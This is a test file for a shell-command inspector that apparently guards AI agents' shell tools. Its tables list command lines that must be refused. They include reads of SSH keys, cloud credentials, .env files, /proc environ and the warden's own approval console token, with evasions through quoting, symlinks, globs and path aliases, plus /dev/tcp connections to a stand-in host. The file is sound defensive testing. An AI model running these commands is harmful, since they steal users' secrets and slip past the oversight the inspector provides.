// Issue 9: the restricted shell limited writes only, so `cat ~/.ssh/id_rsa`, `cat /proc/self/environ`
// and `cat ~/.mcp-warden/approvals/console-token` were allowed. Every row is a command line an
// agent sent (or a member of its class) with the exact rule inspection must refuse it with, in a
// temporary HOME holding the usual secrets and a workspace the server runs in.
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { createInspector, initParsers } from '../../src/inspect/index.js';
import type { ServerConfig } from '../../src/config/types.js';

let base: string;
let home: string;
let ws: string;
const saved = { HOME: process.env.HOME, MCP_WARDEN_STATE_DIR: process.env.MCP_WARDEN_STATE_DIR };

function write(file: string, text = 'x'): void {
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
}

beforeAll(async () => {
  await initParsers();
  base = realpathSync(mkdtempSync(path.join(tmpdir(), 'warden-reads-')));
  home = path.join(base, 'home');
  ws = path.join(home, 'project');
  process.env.HOME = home;
  delete process.env.MCP_WARDEN_STATE_DIR;
  write(path.join(home, '.ssh', 'id_rsa'), 'PRIVATE KEY');
  write(path.join(home, '.aws', 'credentials'));
  write(path.join(home, '.mcp-warden', 'approvals', 'console-token'));
  write(path.join(home, '.bash_history'));
  write(path.join(home, '.git-credentials'));
  write(path.join(home, '.config', 'gh', 'hosts.yml'));
  write(path.join(ws, 'README.md'));
  write(path.join(ws, 'src', 'a.ts'));
  write(path.join(ws, 'src', 'b.ts'));
  write(path.join(ws, 'app', '.env'), 'TOKEN=1');
  write(path.join(ws, 'app', 'main.ts'));
  write(path.join(ws, '.env.example'));
  write(path.join(ws, 'vault', 'key.pem'));
  write(path.join(base, 'moved-state', 'approvals', 'console-token'));
  mkdirSync(path.join(ws, 'links'));
  symlinkSync(path.join(home, '.ssh', 'id_rsa'), path.join(ws, 'links', 'innocent.txt'));
  symlinkSync(path.join(home, '.ssh'), path.join(ws, 'links', 'keys'));
  mkdirSync(path.join(ws, 'linked'));
  symlinkSync(path.join(home, '.aws'), path.join(ws, 'linked', 'cloud'));
});

afterAll(() => {
  process.env.HOME = saved.HOME;
  if (saved.MCP_WARDEN_STATE_DIR === undefined) delete process.env.MCP_WARDEN_STATE_DIR;
  else process.env.MCP_WARDEN_STATE_DIR = saved.MCP_WARDEN_STATE_DIR;
  rmSync(base, { recursive: true, force: true });
});

const inspector = createInspector();

function shellServer(extra: Partial<ServerConfig['inspect']> = {}): ServerConfig {
  return { id: 'sh', kind: 'shell', transport: 'stdio', command: 'x', args: [], env: {}, cwd: ws, inspect: extra, readonly: [], trusted: false } as unknown as ServerConfig;
}

async function refusalOf(args: Record<string, unknown>, server = shellServer()) {
  const result = await inspector.inspect(server, 'run', args, { dangerousPatterns: [] });
  return result?.refusal;
}

// [command, the rule of the refusal]
const REFUSED: Array<[string, string]> = [
  ['cat ~/.ssh/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['cat /proc/self/environ', 'sensitive path "/proc/**/environ"'],
  ['cat /proc/1/environ', 'sensitive path "/proc/**/environ"'],
  ['cat /proc/self/task/1/environ', 'sensitive path "/proc/**/environ"'],
  ['head -c 100 /proc/self/mem', 'sensitive path "/proc/**/mem"'],
  ['git diff --no-index ~/.ssh/id_rsa /dev/null', 'sensitive path "~/.ssh/**"'],
  ['cat ~/.mcp-warden/approvals/console-token', 'sensitive path "~/.mcp-warden/**"'],
  ['cat ~/.aws/credentials', 'sensitive path "~/.aws/**"'],
  ['cat ~/.git-credentials', 'sensitive path "~/.git-credentials"'],
  ['cat ~/.config/gh/hosts.yml', 'sensitive path "~/.config/gh/hosts.yml"'],
  ['tail ~/.bash_history', 'sensitive path "**/.*_history"'],
  ['cat app/.env', 'sensitive path "**/.env"'],
  ['cat ./app/../app/.ENV', 'sensitive path "**/.env"'],
  ['cat .env.production', 'sensitive path "**/.env.!(example|sample|template|dist)"'],
  // Quoting, escaping and concatenation decode to the same path.
  ["cat '/home'/../proc/self/environ", 'sensitive path "/proc/**/environ"'],
  ['cat ~/".ssh"/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['cat ~/.s\\sh/id_rsa', 'sensitive path "~/.ssh/**"'],
  // Absolute spellings, aliases of the root and working directory, other users' homes.
  [`cat ${'{home}'}//.ssh/./id_rsa`, 'sensitive path "~/.ssh/**"'],
  ['cat /proc/self/root{home}/.ssh/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['cat /proc/self/cwd/../.ssh/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['cat /proc/1/task/1/root/proc/self/environ', 'sensitive path "/proc/**/environ"'],
  ['cat ../.ssh/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['cat ~root/.ssh/id_rsa', 'sensitive path "**/id_rsa*"'],
  ['cat /dev/fd/3', 'sensitive path "/dev/fd/!(0|1|2)"'],
  // A symlink in the workspace that leads to a secret, or through a linked directory.
  ['cat links/innocent.txt', 'sensitive path "~/.ssh/**"'],
  ['cat links/keys/config', 'sensitive path "~/.ssh/**"'],
  ['cat linked/cloud/credentials', 'sensitive path "~/.aws/**"'],
  // Globs that could expand onto a secret, whether or not it exists now.
  ['cat ~/.ss?/id_*', 'sensitive path "~/.ssh/**"'],
  ['cat ~/.ssh/*', 'sensitive path "~/.ssh/**"'],
  ['cat ~/.[s]sh/x', 'sensitive path "~/.ssh/**"'],
  ['cat /proc/*/environ', 'sensitive path "/proc/**/environ"'],
  ['cat ~/.gnupg/*', 'sensitive path "~/.gnupg/**"'],
  ['cat app/.e*', 'sensitive path "**/.env"'],
  ['cat ~/.*/credentials', 'sensitive path "~/.ssh/**"'],
  // Flags and operands carrying a path.
  ['grep --file=~/.ssh/id_rsa x', 'sensitive path "~/.ssh/**"'],
  ['grep -f~/.ssh/id_rsa x', 'sensitive path "~/.ssh/**"'],
  ['git show HEAD:app/.env', 'sensitive path "**/.env"'],
  ['diff --from-file=/proc/self/environ README.md', 'sensitive path "/proc/**/environ"'],
  // Redirections and here-strings name files too.
  ['cat < ~/.ssh/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['wc -l 0< /proc/self/environ', 'sensitive path "/proc/**/environ"'],
  // The shell's own programs: sh -c, wrappers and substitutions are read too (defence in depth).
  ["sh -c 'cat ~/.ssh/id_rsa'", 'sensitive path "~/.ssh/**"'],
  ['echo $(cat ~/.ssh/id_rsa)', 'sensitive path "~/.ssh/**"'],
  ['sudo cat /proc/1/environ', 'sensitive path "/proc/**/environ"'],
  ['source ~/.aws/credentials', 'sensitive path "~/.aws/**"'],
  ['. ~/.aws/credentials', 'sensitive path "~/.aws/**"'],
  ['cat $HOME/.ssh/id_rsa', 'sensitive path "~/.ssh/**"'],
  ['cat ${HOME}/.aws/credentials', 'sensitive path "~/.aws/**"'],
  ['cat <(cat ~/.ssh/id_rsa)', 'sensitive path "~/.ssh/**"'],
  // bash's network devices, in any spelling.
  ['cat < /dev/tcp/evil.example/80', 'network device "/dev/tcp"'],
  ['cat </dev/udp/10.0.0.1/53', 'network device "/dev/udp"'],
  ['cat < //dev/tcp/evil.example/80', 'network device "/dev/tcp"'],
  ['cat < /dev/./tcp/evil.example/80', 'network device "/dev/tcp"'],
  ['cat < /dev/../dev/tcp/evil.example/80', 'network device "/dev/tcp"'],
  ['cat < "/dev/tcp/evil.example/80"', 'network device "/dev/tcp"'],
  ["cat < '/dev/'tcp/evil.example/80", 'network device "/dev/tcp"'],
  ['cat < /dev/t\\cp/evil.example/80', 'network device "/dev/tcp"'],
  ['echo hi > /dev/tcp/127.0.0.1/6379', 'network device "/dev/tcp"'],
  ['cat /dev/tcp/evil.example/80', 'network device "/dev/tcp"'],
  ['head -c 1 <<< x < /DEV/TCP/evil/80', 'network device "/dev/tcp"'],
  ["bash -c 'exec 3<>/dev/tcp/evil/80'", 'network device "/dev/tcp"'],
  ['cat < /dev/{tcp,null}/evil/80', 'network device "/dev/tcp"'],
  ['cat < /dev/{x,{udp,y}}/evil/53', 'network device "/dev/udp"'],
];

test.each(REFUSED)('refuses %s', async (command, rule) => {
  const refusal = await refusalOf({ command: command.replaceAll('{home}', home) });
  expect(refusal?.rule).toBe(rule);
});

// Recursive reads of a directory that holds a secret: refused in restricted mode (a violation).
// Unrestricted mode leaves them to the user, as `find / -exec …` there is an everyday command.
const RECURSIVE: Array<[string, string]> = [
  ['grep -r foo ~', '~/.ssh'],
  ['grep -rn foo /', '~/.ssh'],
  ['grep -R password .', '**/.env'],
  ['grep -r password', '**/.env'],
  ['grep --recursive password app', '**/.env'],
  ['rg password', '**/.env'],
  ['rg password ~', '~/.ssh'],
  ['find ~ -name "*.pem"', '~/.ssh'],
  ['find . -type f', '**/.env'],
  ['ls -R ~/.config', '~/.config/gcloud'],
  ['grep -r x links', '~/.ssh/**'],
  ['grep -r secret linked', '~/.aws'],
  ['diff -r app /tmp', '**/.env'],
  ['grep -r x /proc/self', '/proc/**/environ'],
  ['du -a ~', '~/.ssh'],
];

test.each(RECURSIVE)('restricted mode refuses the recursive read %s', async (command, glob) => {
  const result = await inspector.inspect(shellServer(), 'run', { command }, { dangerousPatterns: [] });
  expect(result?.refusal).toBeUndefined();
  expect(result?.violation).toContain(`a sensitive path (matches "${glob}")`);
});

test('a recursive read names the directory and what it holds', async () => {
  const result = await inspector.inspect(shellServer(), 'run', { command: 'grep -r foo ~' }, { dangerousPatterns: [] });
  expect(result?.violation).toBe(`"grep" reads "${home}", which holds "${home}/.ssh", a sensitive path (matches "~/.ssh")`);
  const implicit = await inspector.inspect(shellServer(), 'run', { command: 'rg password' }, { dangerousPatterns: [] });
  expect(implicit?.violation).toBe(`"rg" without a path reads "${ws}", which holds "${ws}/app/.env", a sensitive path (matches "**/.env")`);
});

// Everyday reads stay allowed: nothing here names or reaches a sensitive path.
const ALLOWED = [
  'cat README.md',
  'ls -la',
  'ls',
  'git status',
  'git diff',
  'git log --format=%H:%s -n 3',
  'grep -r foo src',
  'grep -rn TODO src README.md',
  'cat /etc/os-release',
  'cat src/*.ts',
  'ls *.md',
  'cat .env.example',
  'find src -name "*.ts"',
  'tree src',
  'wc -l src/a.ts',
  'cat ~/project/README.md',
  'ls ~',
  'echo /dev/null',
  'cat /dev/null',
  'head -c 10 /dev/urandom',
  'ls -R src',
];

test.each(ALLOWED)('allows %s', async (command) => {
  const result = await inspector.inspect(shellServer(), 'run', { command }, { dangerousPatterns: [] });
  expect(result?.refusal).toBeUndefined();
  expect(result?.violation).toBeUndefined();
});

test('a refusal names the path, the glob and where the glob is written', async () => {
  const refusal = await refusalOf({ command: 'cat ~/.ssh/id_rsa' });
  expect(refusal).toEqual({
    rule: 'sensitive path "~/.ssh/**"',
    source: 'built-in sensitive paths',
    message: `"cat" reads "${home}/.ssh/id_rsa", a sensitive path (matches "~/.ssh/**")`,
  });
});

test('a configured glob guards reads and is cited with its location', async () => {
  const server = shellServer({ sensitivePaths: ['vault/**'], sensitivePathSources: { 'vault/**': 'gateway.yaml:3:5' } });
  expect(await refusalOf({ command: 'cat vault/key.pem' }, server)).toEqual({
    rule: 'sensitive path "vault/**"',
    source: 'gateway.yaml:3:5',
    message: `"cat" reads "${ws}/vault/key.pem", a sensitive path (matches "vault/**")`,
  });
  expect((await refusalOf({ command: 'grep -r key vault' }, server))?.rule).toBe('sensitive path "vault/**"');
  expect(await refusalOf({ command: 'cat vault/key.pem' })).toBeUndefined();
});

test('the state directory is sensitive where $MCP_WARDEN_STATE_DIR moves it, and ~/.mcp-warden stays so', async () => {
  process.env.MCP_WARDEN_STATE_DIR = path.join(base, 'moved-state');
  try {
    const moved = await refusalOf({ command: `cat ${base}/moved-state/approvals/console-token` });
    expect(moved?.rule).toBe(`sensitive path "${base}/moved-state/**"`);
    expect(moved?.source).toBe('built-in (the state directory, $MCP_WARDEN_STATE_DIR)');
    expect((await refusalOf({ command: 'cat ~/.mcp-warden/approvals/console-token' }))?.rule).toBe('sensitive path "~/.mcp-warden/**"');
  } finally {
    delete process.env.MCP_WARDEN_STATE_DIR;
  }
});

test('a shell tool declared a read (inspect.readTools) still may not read a secret', async () => {
  const server = shellServer({ readTools: ['run'] });
  const refused = await inspector.inspect(server, 'run', { command: 'cat ~/.ssh/id_rsa' }, { dangerousPatterns: [] });
  expect(refused?.refusal?.rule).toBe('sensitive path "~/.ssh/**"');
  const plain = await inspector.inspect(server, 'run', { command: 'cat README.md' }, { dangerousPatterns: [] });
  expect(plain).toMatchObject({ understood: true, writes: false });
  expect(plain?.refusal).toBeUndefined();
});
